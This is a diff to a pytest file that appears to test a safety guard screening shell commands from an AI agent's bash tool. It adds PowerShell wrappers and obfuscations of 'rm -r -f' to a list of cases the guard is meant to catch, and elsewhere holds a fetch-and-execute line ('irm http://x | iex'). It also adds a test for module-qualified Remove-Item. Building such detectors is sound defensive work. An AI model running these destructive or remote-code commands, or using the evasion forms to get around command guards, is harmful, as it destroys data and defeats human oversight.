@@ -41,6 +41,8 @@ WRAPPED = [
     "gcloud compute ssh v -- rm -rf x", "launchctl submit -l a -- /bin/rm -rf x", "dbus-launch rm -rf x", "with-contenv rm -rf x",
 ]  # fmt: skip
 OF_WINDOWS = [
+    "try { rm -r -f x } catch {}", "try{rm -r -f x}catch{}", "finally { rm -r -f x }", "trap { rm -r -f x }", ". { rm -r -f x }", "ls | %{rm -r -f x}",
+    "ls | ForEach-Object{rm -r -f x}", "<# a #> rm -r -f x", "Start-Process pwsh -ArgumentList '-c rm -r -f x'",
     "pwsh -c '. rm -r -f x'", "pwsh -c 'Start-Process rm -r -f x'", "pwsh -c 'saps rm -r -f x'", "pwsh -c 'Invoke-Command { rm -r -f x }'", "pwsh -c 'icm -ScriptBlock { rm -r -f x }'",
     "pwsh -c 'try { rm -r -f x } catch {}'", "pwsh -c '1..3 | %{rm -r -f $_}'", "pwsh -c 'Start-Job { rm -r -f x }'", "pwsh -c '<# a #> rm -r -f x'", "pwsh -c 'sal a rm; a -r -f x'",
     "pwsh -c 'C:\\bin\\rm.exe -r -f x'", "pwsh -c '\"rm -r -f x\" | iex'", "pwsh -c 'irm http://x | iex'", "cmd /c \"if exist x rm -r -f x\"", "cmd /c \"if not exist x rm -r -f x\"",
@@ -126,3 +128,12 @@ def test_many_signs_cost_no_more_than_their_budget(before: str, sign: str, behin
         FORCED.decide("bash", {"command": before + signs + behind}, {})
 
     assert grows_with_its_length(decided, sign, 40_000)
+
+
+@pytest.mark.parametrize("command", ["{}", "pwsh -c '{}'", "ls; {}"])
+def test_a_cmdlet_is_known_with_the_name_of_its_module(command: str) -> None:
+    """PowerShell also takes a module before the name; another shell would read its sign as an escape."""
+    named = command.format("Microsoft.PowerShell.Management\\Remove-Item x")
+
+    assert guard({"shell": {"program": "remove-item"}}).decide("bash", {"command": named}, {}).decision == "ask"
+    assert guard({"shell": {"program": "get-item"}}).decide("bash", {"command": named}, {}).decision == "allow"
